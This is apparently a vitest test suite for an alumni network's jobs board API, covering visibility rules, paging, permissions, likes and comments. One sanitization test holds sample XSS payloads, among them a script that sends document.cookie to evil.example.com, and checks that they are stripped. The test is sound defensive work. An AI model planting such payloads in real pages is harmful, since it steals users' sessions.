import { randomUUID } from 'node:crypto';
import {
  JOB_CATEGORIES,
  JOBS_PAGE_SIZE,
  job as jobSchema,
  postComment,
  type Job,
  type JobsFetchAnswer,
} from '@alumnet/contract';
import { and, asc, eq, ne, notLike } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { jobComments, jobLikes, jobs, users } from '../../db/schema';
import { buildTestApp, loginAs } from '../../test/build';

interface Session {
  cookie: string;
  user: { _id: string; collegeId: string; batchId: string; branchId: string; fullName: string };
}

const FORBIDDEN_DELETE = 'Only the author or a college admin can delete this job.';

describe('jobs board', () => {
  let t: Awaited<ReturnType<typeof buildTestApp>>;
  let member: Session;
  let member2: Session;
  let batchmate: Session;
  let branchmate: Session;
  let admin: Session;
  let superAdmin: Session;
  let other: Session;

  const call = (path: string, payload: object | undefined, session?: Session) =>
    t.app.inject({
      method: 'POST',
      url: `/api/jobs/${path}`,
      payload,
      headers: session ? { cookie: session.cookie } : {},
    });
  const fetchPage = async (session: Session, page = 1) => {
    const response = await call('fetch', { page }, session);
    expect(response.statusCode).toBe(200);
    return response.json() as JobsFetchAnswer;
  };
  const fetchAll = async (session: Session) => {
    const first = await fetchPage(session);
    const all = [...first.jobs];
    for (let page = 2; page <= first.totalPages; page++)
      all.push(...(await fetchPage(session, page)).jobs);
    return all;
  };
  const titlesSeenBy = async (session: Session) => (await fetchAll(session)).map((j) => j.jobTitle);
  const seenBy = async (session: Session, jobId: string) =>
    (await fetchAll(session)).find((j) => j.id === jobId);

  const validJob = {
    jobTitle: 'Platform Engineer',
    jobContent: '<p>We build the <strong>payments</strong> platform.</p>',
    jobCategory: 'IT & Systems',
    jobType: 'fulltime',
    accessLevel: 'college',
  };
  const addJob = async (session: Session, changes: object = {}) => {
    const response = await call('add', { ...validJob, ...changes }, session);
    expect(response.statusCode, response.body).toBe(200);
    return response.json() as Job;
  };
  const expectError = (
    response: Awaited<ReturnType<typeof call>>,
    statusCode: number,
    message: string,
  ) => {
    expect(response.json()).toEqual({ statusCode, error: message, message });
    expect(response.statusCode).toBe(statusCode);
  };

  /** A plain, approved member of the demo college next to the demo member. */
  const neighbourOf = async (where: 'sameBatch' | 'sameBranch') => {
    const [row] = await t.db
      .select({ email: users.email })
      .from(users)
      .where(
        and(
          eq(users.batchId, member.user.batchId),
          where === 'sameBranch'
            ? eq(users.branchId, member.user.branchId)
            : ne(users.branchId, member.user.branchId),
          eq(users.userType, 'u'),
          eq(users.isApproved, true),
          notLike(users.email, '%@demo.alumnet.dev'),
        ),
      )
      .orderBy(asc(users.email))
      .limit(1);
    if (!row) throw new Error(`the demo data has no ${where} member`);
    return (await loginAs(t.app, row.email)) as Session;
  };

  beforeAll(async () => {
    t = await buildTestApp();
    const login = async (email: string) => (await loginAs(t.app, email)) as Session;
    member = await login('member@demo.alumnet.dev');
    member2 = await login('member2@demo.alumnet.dev');
    admin = await login('admin@demo.alumnet.dev');
    superAdmin = await login('super@demo.alumnet.dev');
    other = await login('other@demo.alumnet.dev');
    batchmate = await neighbourOf('sameBatch');
    branchmate = await neighbourOf('sameBranch');
  });
  afterAll(() => t.close());

  describe('visibility', () => {
    let shared: Record<'college' | 'batch' | 'branch', Job>;

    beforeAll(async () => {
      shared = {
        college: await addJob(member, { jobTitle: 'Visibility: college' }),
        batch: await addJob(member, { jobTitle: 'Visibility: batch', accessLevel: 'batch' }),
        branch: await addJob(member, { jobTitle: 'Visibility: branch', accessLevel: 'branch' }),
      };
    });

    it("takes the level id from the author's own college, batch or branch", () => {
      expect(shared.college.accessLevelId).toBe(member.user.collegeId);
      expect(shared.batch.accessLevelId).toBe(member.user.batchId);
      expect(shared.branch.accessLevelId).toBe(member.user.branchId);
    });

    it.each([
      ['the author', () => member, ['college', 'batch', 'branch']],
      ['a member of the same branch', () => branchmate, ['college', 'batch', 'branch']],
      ['a member of the same batch, another branch', () => batchmate, ['college', 'batch']],
      ['a member of another batch', () => member2, ['college']],
      ['a member of another college', () => other, []],
      ['an admin of the college', () => admin, ['college', 'batch', 'branch']],
    ])('shows %s the jobs shared with %j', async (_who, viewer, levels) => {
      const titles = await titlesSeenBy(viewer());
      for (const level of ['college', 'batch', 'branch'] as const) {
        expect(titles.includes(`Visibility: ${level}`), level).toBe(levels.includes(level));
      }
    });

    it('shows a member only jobs shared with their own college, batch or branch', async () => {
      for (const viewer of [member, member2, batchmate]) {
        const own: Record<string, string> = {
          college: viewer.user.collegeId,
          batch: viewer.user.batchId,
          branch: viewer.user.branchId,
        };
        const seen = await fetchAll(viewer);
        expect(seen.length).toBeGreaterThan(0);
        for (const j of seen) {
          expect(j.collegeId).toBe(viewer.user.collegeId);
          expect(j.accessLevelId).toBe(own[j.accessLevel]);
        }
      }
    });

    it('keeps the colleges apart', async () => {
      const seen = await fetchAll(other);
      expect(seen.length).toBeGreaterThan(0);
      expect(seen.every((j) => j.collegeId === other.user.collegeId)).toBe(true);
      const demoTitles = await titlesSeenBy(member);
      expect(seen.some((j) => demoTitles.includes(j.jobTitle))).toBe(false);
    });

    it('shows the demo member seeded jobs at every level, in every category and type', async () => {
      const seen = await fetchAll(member);
      expect(new Set(seen.map((j) => j.accessLevel))).toEqual(
        new Set(['college', 'batch', 'branch']),
      );
      const college = await fetchAll(admin);
      expect(new Set(college.map((j) => j.jobCategory))).toEqual(new Set(JOB_CATEGORIES));
      expect(new Set(college.map((j) => j.jobType))).toEqual(new Set(['internship', 'fulltime']));
      expect(college.some((j) => j.likesCount > 0 && j.comments.length > 0)).toBe(true);
    });
  });

  describe('paging', () => {
    it('gives 10 jobs a page, newest first, with the totals', async () => {
      const first = await fetchPage(member);
      expect(first.totalResults).toBeGreaterThan(2 * JOBS_PAGE_SIZE);
      expect(first.totalPages).toBe(Math.ceil(first.totalResults / JOBS_PAGE_SIZE));
      expect(first.jobs).toHaveLength(JOBS_PAGE_SIZE);

      const all = await fetchAll(member);
      expect(all).toHaveLength(first.totalResults);
      expect(new Set(all.map((j) => j.id)).size).toBe(first.totalResults);
      const dates = all.map((j) => Date.parse(j.postedDate));
      expect(dates).toEqual([...dates].sort((a, b) => b - a));

      const last = await fetchPage(member, first.totalPages);
      expect(last.jobs).toHaveLength(first.totalResults - (first.totalPages - 1) * JOBS_PAGE_SIZE);
      const beyond = await fetchPage(member, first.totalPages + 1);
      expect(beyond).toEqual({
        jobs: [],
        totalResults: first.totalResults,
        totalPages: first.totalPages,
      });
    });

    it('starts at page 1 without a page and answers every job in the contract shape', async () => {
      const response = await call('fetch', {}, member);
      expect(response.statusCode).toBe(200);
      const body = response.json() as JobsFetchAnswer;
      expect(body.jobs.map((j) => j.id)).toEqual(
        (await fetchPage(member, 1)).jobs.map((j) => j.id),
      );
      for (const j of body.jobs) expect(jobSchema.parse(j)).toEqual(j);
    });

    it.each([[0], [-1], ['x']])('refuses page %j', async (page) => {
      expect((await call('fetch', { page }, member)).statusCode).toBe(400);
    });
  });

  describe('who acts', () => {
    it('accepts the spec body when it names the caller', async () => {
      const response = await call(
        'fetch',
        { collegeId: member.user.collegeId, userId: member.user._id, page: 1 },
        member,
      );
      expect(response.statusCode).toBe(200);
    });

    it.each([
      ['userId', () => ({ userId: member2.user._id })],
      ['collegeId', () => ({ collegeId: other.user.collegeId })],
    ])('refuses a fetch for another %s', async (_field, body) => {
      expectError(await call('fetch', body(), member), 403, 'You can only act for yourself.');
    });

    it.each([
      ['postedBy', () => ({ postedBy: member2.user._id })],
      ['collegeId', () => ({ collegeId: other.user.collegeId })],
    ])('refuses to add a job for another %s', async (_field, body) => {
      const before = await t.db.$count(jobs);
      expectError(
        await call('add', { ...validJob, ...body() }, member),
        403,
        'You can only act for yourself.',
      );
      expect(await t.db.$count(jobs)).toBe(before);
    });

    it.each([
      ['fetch', {}],
      ['add', validJob],
      ['delete', { jobId: randomUUID() }],
      ['updateLikes', { jobId: randomUUID() }],
      ['savecomment', { jobId: randomUUID(), comment: 'Hi' }],
    ])('answers a signed-out %s with 401', async (path, body) => {
      expectError(await call(path, body), 401, 'Please log in to continue.');
    });
  });

  describe('canEdit', () => {
    let posted: Job;

    beforeAll(async () => {
      posted = await addJob(member2, { jobTitle: 'canEdit check' });
    });

    it.each([
      ['the author', 'yes', () => member2],
      ['an admin of the college', 'yes', () => admin],
      ['the super admin', 'yes', () => superAdmin],
      ['another member', 'no', () => member],
      ['a member of another batch', 'no', () => batchmate],
    ])('gives %s canEdit %j', async (_who, expected, viewer) => {
      expect((await seenBy(viewer(), posted.id))?.canEdit).toBe(expected);
    });

    it("is 'yes' for the author in the answer of add", () => {
      expect(posted.canEdit).toBe('yes');
    });
  });

  describe('add', () => {
    it('stores the job with author, college, level and date from the session and the clock', async () => {
      const before = Date.now();
      const created = await addJob(member, {
        jobTitle: '  Data Analyst  ',
        jobCategory: 'Finance',
        jobType: 'internship',
        accessLevel: 'batch',
        postedBy: member.user._id,
        collegeId: member.user.collegeId,
        postedDate: '2001-01-01T00:00:00.000Z',
        accessLevelId: member2.user.batchId,
      });
      expect(created).toEqual({
        id: expect.any(String),
        jobTitle: 'Data Analyst',
        jobContent: validJob.jobContent,
        jobCategory: 'Finance',
        jobType: 'internship',
        collegeId: member.user.collegeId,
        postedBy: {
          _id: member.user._id,
          fullName: 'Meera Menon',
          batchName: '2012-2016',
          branchName: 'Computer Science',
        },
        postedDate: expect.any(String),
        accessLevel: 'batch',
        accessLevelId: member.user.batchId,
        canEdit: 'yes',
        likesCount: 0,
        likedByMe: false,
        comments: [],
        commentsCount: 0,
      });
      expect(Date.parse(created.postedDate)).toBeGreaterThanOrEqual(before - 1000);
      expect(Date.parse(created.postedDate)).toBeLessThanOrEqual(Date.now() + 1000);
      expect((await fetchPage(member)).jobs[0]).toEqual(created);
    });

    it('takes full-time when no job type is given', async () => {
      const { jobType, ...withoutType } = validJob;
      expect(jobType).toBe('fulltime');
      const response = await call('add', { ...withoutType, jobTitle: 'No type' }, member);
      expect(response.json().jobType).toBe('fulltime');
    });

    it('sanitizes the details before storing them', async () => {
      const created = await addJob(member, {
        jobTitle: 'Sanitized',
        jobContent:
          '<h3>Role</h3><p onmouseover="steal()">Work on <strong>payments</strong> and <em>risk</em>.</p>' +
          '<script>fetch("https://evil.example.com?c=" + document.cookie)</script>' +
          '<img src="x" onerror="alert(1)"><iframe src="https://evil.example.com"></iframe>' +
          '<ul><li>Go</li></ul><p><a href="javascript:alert(1)">Bad link</a> ' +
          '<a href="https://careers.example.com" target="_self">Careers</a></p>',
      });
      const expected =
        '<h3>Role</h3><p>Work on <strong>payments</strong> and <em>risk</em>.</p><ul><li>Go</li></ul>' +
        '<p><a>Bad link</a> <a href="https://careers.example.com" rel="noopener noreferrer" target="_blank">Careers</a></p>';
      expect(created.jobContent).toBe(expected);
      const [stored] = await t.db
        .select({ jobContent: jobs.jobContent })
        .from(jobs)
        .where(eq(jobs.id, created.id));
      expect(stored?.jobContent).toBe(expected);
    });

    it.each([
      ['no title', { jobTitle: undefined }, 'Job Title is required'],
      ['a blank title', { jobTitle: '   ' }, 'Job Title is required'],
      [
        'a title too long',
        { jobTitle: 'x'.repeat(201) },
        'Job Title can have at most 200 characters.',
      ],
      ['no details', { jobContent: undefined }, 'Job Details are required'],
      ['empty details', { jobContent: '' }, 'Job Details are required'],
      [
        'details without text',
        { jobContent: '<p> </p><p>&nbsp;</p><hr>' },
        'Job Details are required',
      ],
      [
        'details that are only a script',
        { jobContent: '<script>alert(1)</script>' },
        'Job Details are required',
      ],
      ['no category', { jobCategory: undefined }, 'Job Category is required'],
      ['an unknown category', { jobCategory: 'Astrology' }, 'Job Category is required'],
      [
        'no share-with level',
        { accessLevel: undefined },
        'Please select a valid value for "Share with"',
      ],
      [
        'an unknown share-with level',
        { accessLevel: 'world' },
        'Please select a valid value for "Share with"',
      ],
      ['an unknown job type', { jobType: 'gig' }, 'Please choose internship or full-time'],
    ])('refuses %s', async (_case, changes, message) => {
      const before = await t.db.$count(jobs);
      expectError(await call('add', { ...validJob, ...changes }, member), 400, message);
      expect(await t.db.$count(jobs)).toBe(before);
    });

    it('names the title first when the body is empty', async () => {
      expectError(await call('add', undefined, member), 400, 'Job Title is required');
    });
  });

  describe('delete', () => {
    const remove = (jobId: string, session: Session) => call('delete', { jobId }, session);

    it('lets the author delete their job, with its likes and comments', async () => {
      const posted = await addJob(member);
      await call('updateLikes', { jobId: posted.id }, member2);
      await call('savecomment', { jobId: posted.id, comment: 'Nice' }, member2);
      const response = await remove(posted.id, member);
      expect(response.statusCode).toBe(200);
      expect(response.json()).toEqual({ ok: true, message: 'The job posting was deleted.' });
      expect(await seenBy(member, posted.id)).toBeUndefined();
      expect(await t.db.$count(jobLikes, eq(jobLikes.jobId, posted.id))).toBe(0);
      expect(await t.db.$count(jobComments, eq(jobComments.jobId, posted.id))).toBe(0);
      expectError(await remove(posted.id, member), 404, 'No such job.');
    });

    it.each([
      ['an admin of the college', () => admin],
      ['the super admin', () => superAdmin],
    ])("lets %s delete a member's job", async (_who, session) => {
      const posted = await addJob(member2, { accessLevel: 'branch' });
      expect((await remove(posted.id, session())).statusCode).toBe(200);
      expect(await t.db.$count(jobs, eq(jobs.id, posted.id))).toBe(0);
    });

    it('refuses other members who can see the job with 403', async () => {
      const collegeWide = await addJob(member);
      const branchOnly = await addJob(member, { accessLevel: 'branch' });
      expectError(await remove(collegeWide.id, member2), 403, FORBIDDEN_DELETE);
      expectError(await remove(branchOnly.id, branchmate), 403, FORBIDDEN_DELETE);
      expect(await t.db.$count(jobs, eq(jobs.id, collegeWide.id))).toBe(1);
      expect(await t.db.$count(jobs, eq(jobs.id, branchOnly.id))).toBe(1);
    });

    it.each([
      ['a member outside its branch', () => member2],
      ['a member of another college', () => other],
    ])('answers %s who cannot see the job with 404', async (_who, session) => {
      const posted = await addJob(member, { accessLevel: 'branch' });
      expectError(await remove(posted.id, session()), 404, 'No such job.');
      expect(await t.db.$count(jobs, eq(jobs.id, posted.id))).toBe(1);
    });

    it('answers an unknown or malformed id', async () => {
      expectError(await remove(randomUUID(), superAdmin), 404, 'No such job.');
      expectError(await call('delete', { jobId: 'nope' }, member), 400, 'Invalid id');
    });
  });

  describe('likes', () => {
    it('toggles a like per member and counts the rows', async () => {
      const posted = await addJob(member, { jobTitle: 'Likeable' });
      const like = async (session: Session) => {
        const response = await call('updateLikes', { jobId: posted.id }, session);
        expect(response.statusCode).toBe(200);
        return response.json();
      };
      expect(await like(member2)).toEqual({
        updatedJob: { id: posted.id, likesCount: 1, likedByMe: true },
      });
      expect(await like(batchmate)).toEqual({
        updatedJob: { id: posted.id, likesCount: 2, likedByMe: true },
      });
      expect(await seenBy(member2, posted.id)).toMatchObject({ likesCount: 2, likedByMe: true });
      expect(await seenBy(member, posted.id)).toMatchObject({ likesCount: 2, likedByMe: false });
      expect(await like(member2)).toEqual({
        updatedJob: { id: posted.id, likesCount: 1, likedByMe: false },
      });
      expect(await seenBy(member2, posted.id)).toMatchObject({ likesCount: 1, likedByMe: false });
    });

    it('refuses a like on a job the member cannot see', async () => {
      const posted = await addJob(member, { accessLevel: 'batch' });
      expectError(await call('updateLikes', { jobId: posted.id }, member2), 404, 'No such job.');
      expectError(await call('updateLikes', { jobId: posted.id }, other), 404, 'No such job.');
      expect(await t.db.$count(jobLikes, eq(jobLikes.jobId, posted.id))).toBe(0);
    });
  });

  describe('comments', () => {
    it('saves a comment by the signed-in member and shows it on the job', async () => {
      const posted = await addJob(member, { jobTitle: 'Commentable' });
      const response = await call(
        'savecomment',
        { jobId: posted.id, comment: '  Is this remote?  ' },
        member2,
      );
      expect(response.statusCode).toBe(200);
      const saved = response.json();
      expect(postComment.parse(saved)).toEqual({
        _id: expect.any(String),
        commenterId: {
          _id: member2.user._id,
          fullName: 'Rahul Verma',
          profilePic: null,
          batchName: '2014-2018',
          branchName: 'Mechanical',
        },
        comment: 'Is this remote?',
        createdAt: expect.any(String),
      });
      expect((await seenBy(member, posted.id))?.comments).toEqual([saved]);
    });

    it.each([
      ['an empty comment', '', 'Comment cannot be empty.'],
      ['a blank comment', '   \n ', 'Comment cannot be empty.'],
      ['a comment too long', 'x'.repeat(2001), 'A comment can have at most 2000 characters.'],
    ])('refuses %s', async (_case, comment, message) => {
      const [seeded] = (await fetchPage(member)).jobs;
      expectError(await call('savecomment', { jobId: seeded?.id, comment }, member), 400, message);
    });

    it('refuses a comment on a job the member cannot see', async () => {
      const posted = await addJob(member, { accessLevel: 'branch' });
      expectError(
        await call('savecomment', { jobId: posted.id, comment: 'Hello' }, other),
        404,
        'No such job.',
      );
      expect(await t.db.$count(jobComments, eq(jobComments.jobId, posted.id))).toBe(0);
    });
  });
});
